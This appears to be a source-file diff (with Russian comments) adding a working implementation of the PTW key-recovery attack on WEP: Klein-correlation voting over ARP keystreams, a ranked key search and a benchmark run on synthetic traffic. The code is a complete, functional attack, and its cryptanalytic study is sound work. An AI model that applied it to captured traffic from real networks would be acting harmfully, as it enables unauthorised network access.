@@ -0,0 +1,232 @@
+"""Атака Пышкина - Тевса - Вайнманна (PTW) на WEP.
+
+Атака использует все пакеты, а не только слабые IV. Нужны первые байты
+ключевого потока: у ARP-пакетов первые 16 байт данных (заголовок SNAP и
+заголовок ARP) одинаковы, и поток получается как шифртекст XOR эти байты.
+
+По IV атакующий повторяет первые 3 шага KSA и получает S_3 и j_3.
+Корреляция Кляйна дает для суммы байтов секретного ключа
+sigma_i = K[3] + ... + K[3 + i] приближение
+
+    sigma_i ≈ S_3^-1[3 + i - X[2 + i]] - (j_3 + S_3[3] + ... + S_3[3 + i])  (mod 256)
+
+где X - ключевой поток. Оно верно с вероятностью около 1.36/256 вместо
+1/256 у случайного значения, поэтому каждая сумма sigma_i определяется
+голосованием по всем пакетам независимо от остальных. Голоса пакетов
+считаются векторно и копятся в гистограммах (длина ключа, 256), так что
+их можно дополнять по мере перехвата.
+
+Ключ K[i] = sigma_i - sigma_(i-1) собирается из лидеров голосования; если
+он не подходит (не воспроизводит известный ключевой поток пакета),
+перебираются другие кандидаты сумм в порядке возрастания суммарного
+отставания от лидеров. Для "сильных" байтов ключа корреляция не работает,
+и верная сумма оказывается в хвосте голосования при любом числе пакетов;
+поэтому затем по очереди для каждой суммы (начиная с наименьшего отрыва
+лидера) перебираются все 256 значений. Без интерфейса:
+
+    python -m modules.protocols.wep.ptw --bits 104 --packets 10000 20000 40000 80000 --trials 10
+"""
+from dataclasses import dataclass
+from typing import Dict, Iterator, List, Optional, Sequence, Tuple
+import argparse
+from itertools import islice
+import heapq
+import sys
+import time
+
+import numpy as np
+
+from modules.protocols.wep import packets
+
+ARP_HEADER = bytes.fromhex("0001080006040001")  # Ethernet, IPv4, длины адресов 6 и 4, запрос
+KNOWN_PLAINTEXT = packets.SNAP_ARP + ARP_HEADER
+ARP_SIZE = len(packets.SNAP_ARP) + 28  # заголовок SNAP и пакет ARP
+DEFAULT_DEPTH = 8       # кандидатов на каждую сумму при переборе
+DEFAULT_MAX_KEYS = 1 << 14
+STRONG_ALTERNATIVES = 4  # комбинаций остальных сумм на каждое значение предполагаемой сильной суммы
+VERIFY_BATCH = 1024     # ключей, проверяемых за один векторный проход RC4
+
+
+def capture(key: bytes, count: int, rng: Optional[np.random.Generator] = None) -> Tuple[np.ndarray, np.ndarray]:
+    """IV и восстановленные префиксы ключевого потока count ARP-пакетов со случайными IV"""
+    rng = rng or np.random.default_rng()
+    ivs = rng.integers(0, 256, (count, packets.IV_SIZE), dtype=np.uint8)
+    payloads = packets.random_payloads(count, KNOWN_PLAINTEXT, ARP_SIZE, rng)
+    ciphertexts = packets.encrypt_packets(key, ivs, payloads)
+    known = np.frombuffer(KNOWN_PLAINTEXT, dtype=np.uint8)
+    return ivs, ciphertexts[:, :len(known)] ^ known
+
+
+class Votes:
+    """Гистограммы голосов за суммы sigma_i, пополняемые пачками пакетов"""
+
+    def __init__(self, key_size: int):
+        if key_size + 2 > len(KNOWN_PLAINTEXT):
+            raise ValueError(f"Для ключа из {key_size} байт нужно {key_size + 2} байт ключевого потока")
+        self.key_size = key_size
+        self.histograms = np.zeros((key_size, 256), dtype=np.int64)
+        self.packets = 0
+        self.sample: Optional[Tuple[np.ndarray, np.ndarray]] = None  # пакет для проверки ключей
+
+    def add(self, ivs: np.ndarray, keystreams: np.ndarray) -> None:
+        for start in range(0, len(ivs), packets.CHUNK):
+            self._add(ivs[start:start + packets.CHUNK], keystreams[start:start + packets.CHUNK])
+        if self.sample is None and len(ivs):
+            self.sample = (ivs[0], keystreams[0])
+
+    def _add(self, ivs: np.ndarray, keystreams: np.ndarray) -> None:
+        count, size = len(ivs), self.key_size
+        state, j = packets.rc4_ksa(ivs, packets.IV_SIZE)
+        rows = np.arange(count)[:, None]
+        inverse = np.empty_like(state)
+        inverse[rows, state] = np.arange(256, dtype=np.uint8)
+        positions = np.arange(size)
+        # S_3^-1[3 + i - X[2 + i]] для всех i сразу
+        targets = (positions + packets.IV_SIZE - keystreams[:, 2:2 + size].astype(np.int64)) % 256
+        partial = np.cumsum(state[:, packets.IV_SIZE:packets.IV_SIZE + size], axis=1, dtype=np.int64)
+        sigma = (inverse[rows, targets] - j[:, None].astype(np.int64) - partial) % 256
+        self.histograms += np.bincount((positions * 256 + sigma).ravel(),
+                                       minlength=size * 256).reshape(size, 256)
+        self.packets += count
+
+    def ranking(self) -> Tuple[np.ndarray, np.ndarray]:
+        """Значения каждой суммы по убыванию голосов и их отставание от лидера"""
+        order = np.argsort(-self.histograms, axis=1, kind="stable")
+        counts = np.take_along_axis(self.histograms, order, axis=1)
+        return order, counts[:, :1] - counts
+
+
+def sums_to_key(sums: Sequence[int]) -> bytes:
+    """K[i] = sigma_i - sigma_(i-1)"""
+    return bytes((sums[number] - (sums[number - 1] if number else 0)) % 256 for number in range(len(sums)))
+
+
+def candidate_keys(values: Sequence[np.ndarray], deficits: Sequence[np.ndarray]) -> Iterator[bytes]:
+    """Ключи в порядке возрастания суммарного отставания выбранных кандидатов сумм.
+
+    values[i] и deficits[i] - кандидаты суммы i и их отставание (по
+    возрастанию). Каждая комбинация порождается один раз: наследник
+    увеличивает номер кандидата в позиции не левее последней увеличенной.
+    """
+    size = len(values)
+    heap = [(0, (0,) * size, 0)]
+    while heap:
+        cost, ranks, last = heapq.heappop(heap)
+        yield sums_to_key([int(values[position][rank]) for position, rank in enumerate(ranks)])
+        for position in range(last, size):
+            if ranks[position] + 1 < len(values[position]):
+                successor = ranks[:position] + (ranks[position] + 1,) + ranks[position + 1:]
+                delta = int(deficits[position][ranks[position] + 1] - deficits[position][ranks[position]])
+                heapq.heappush(heap, (cost + delta, successor, position))
+
+
+def ranked_candidates(votes: Votes, depth: int = DEFAULT_DEPTH, max_keys: int = DEFAULT_MAX_KEYS) -> Iterator[bytes]:
+    """Сначала перебор по рангу среди depth лучших значений каждой суммы, затем
+    предположение о сильной сумме: все ее 256 значений при лучших остальных"""
+    order, deficits = votes.ranking()
+    values, costs = list(order[:, :depth]), list(deficits[:, :depth])
+    yield from islice(candidate_keys(values, costs), max_keys)
+    margins = deficits[:, 1] if order.shape[1] > 1 else np.zeros(len(order))
+    for position in np.argsort(margins, kind="stable"):
+        strong_values, strong_costs = list(values), list(costs)
+        strong_values[position], strong_costs[position] = order[position], np.zeros(256, dtype=np.int64)
+        yield from islice(candidate_keys(strong_values, strong_costs), 256 * STRONG_ALTERNATIVES)
+
+
+@dataclass
+class PTWResult:
+    key: Optional[bytes]  # None, если ни один кандидат не подошел
+    leaders: bytes        # ключ из лидеров голосования (первый кандидат)
+    tried: int            # проверено ключей
+    packets: int
+    vote_seconds: float
+    search_seconds: float
+
+    @property
+    def seconds(self) -> float:
+        return self.vote_seconds + self.search_seconds
+
+
+def search_key(votes: Votes, depth: int = DEFAULT_DEPTH, max_keys: int = DEFAULT_MAX_KEYS) -> Tuple[Optional[bytes], int]:
+    """Перебор кандидатов по рангу; ключ проверяется по ключевому потоку пакета-образца"""
+    iv, keystream = votes.sample
+    candidates = ranked_candidates(votes, depth, max_keys)
+    tried = 0
+    while True:
+        batch = list(islice(candidates, VERIFY_BATCH))
+        if not batch:
+            break
+        keys = np.frombuffer(b''.join(batch), dtype=np.uint8).reshape(len(batch), -1)
+        streams = packets.rc4_keystream(np.hstack([np.broadcast_to(iv, (len(batch), packets.IV_SIZE)), keys]),
+                                        len(keystream))
+        matches = np.flatnonzero((streams == keystream).all(axis=1))
+        if len(matches):
+            return batch[matches[0]], tried + int(matches[0]) + 1
+        tried += len(batch)
+    return None, tried
+
+
+def attack(ivs: np.ndarray, keystreams: np.ndarray, key_size: int, depth: int = DEFAULT_DEPTH,
+           max_keys: int = DEFAULT_MAX_KEYS) -> PTWResult:
+    start = time.perf_counter()
+    votes = Votes(key_size)
+    votes.add(ivs, keystreams)
+    vote_seconds = time.perf_counter() - start
+    key, tried = search_key(votes, depth, max_keys)
+    leaders = sums_to_key(np.argmax(votes.histograms, axis=1))
+    return PTWResult(key, leaders, tried, votes.packets, vote_seconds, time.perf_counter() - start - vote_seconds)
+
+
+def success_rate(key_bits: int, counts: Sequence[int], trials: int = 10, depth: int = DEFAULT_DEPTH,
+                 max_keys: int = DEFAULT_MAX_KEYS, seed: Optional[int] = None) -> List[Dict[str, float]]:
+    """Доля восстановленных ключей для каждого числа пакетов.
+
+    В каждой попытке перехватывается max(counts) пакетов, и голоса
+    дополняются по мере роста числа пакетов, как при реальном перехвате.
+    Время - голосование по всем пакетам точки и перебор ключей.
+    """
+    rng = np.random.default_rng(seed)
+    key_size = packets.KEY_SIZES[key_bits]
+    counts = sorted(counts)
+    totals = {count: {"recovered": 0, "seconds": 0.0, "tried": 0} for count in counts}
+    for _ in range(trials):
+        key = rng.integers(0, 256, key_size, dtype=np.uint8).tobytes()
+        ivs, keystreams = capture(key, counts[-1], rng)
+        votes = Votes(key_size)
+        vote_seconds = 0.0
+        for count in counts:
+            start = time.perf_counter()
+            votes.add(ivs[votes.packets:count], keystreams[votes.packets:count])
+            vote_seconds += time.perf_counter() - start
+            start = time.perf_counter()
+            found, tried = search_key(votes, depth, max_keys)
+            totals[count]["recovered"] += found == key
+            totals[count]["tried"] += tried
+            totals[count]["seconds"] += vote_seconds + time.perf_counter() - start
+    return [{
+        "packets": count,
+        "success_rate": total["recovered"] / trials,
+        "keys_tried": total["tried"] / trials,
+        "seconds": total["seconds"] / trials,
+    } for count, total in totals.items()]
+
+
+def main(argv: Optional[Sequence[str]] = None) -> int:
+    parser = argparse.ArgumentParser(description="Атака PTW на синтетический трафик ARP-пакетов WEP")
+    parser.add_argument("--bits", type=int, choices=sorted(packets.KEY_SIZES), default=104)
+    parser.add_argument("--packets", type=int, nargs="+",
+                        default=[10_000, 20_000, 30_000, 40_000, 50_000, 60_000, 70_000, 80_000])
+    parser.add_argument("--trials", type=int, default=10)
+    parser.add_argument("--depth", type=int, default=DEFAULT_DEPTH, help="кандидатов на каждую сумму")
+    parser.add_argument("--max-keys", type=int, default=DEFAULT_MAX_KEYS, help="проверяемых ключей")
+    parser.add_argument("--seed", type=int)
+    args = parser.parse_args(argv)
+
+    print(f"{'пакетов':>8s}{'успех':>8s}{'ключей проверено':>18s}{'время, с':>10s}")
+    for row in success_rate(args.bits, args.packets, args.trials, args.depth, args.max_keys, args.seed):
+        print(f"{row['packets']:8d}{row['success_rate']:8.0%}{row['keys_tried']:18.0f}{row['seconds']:10.3f}")
+    return 0
+
+
+if __name__ == "__main__":
+    sys.exit(main())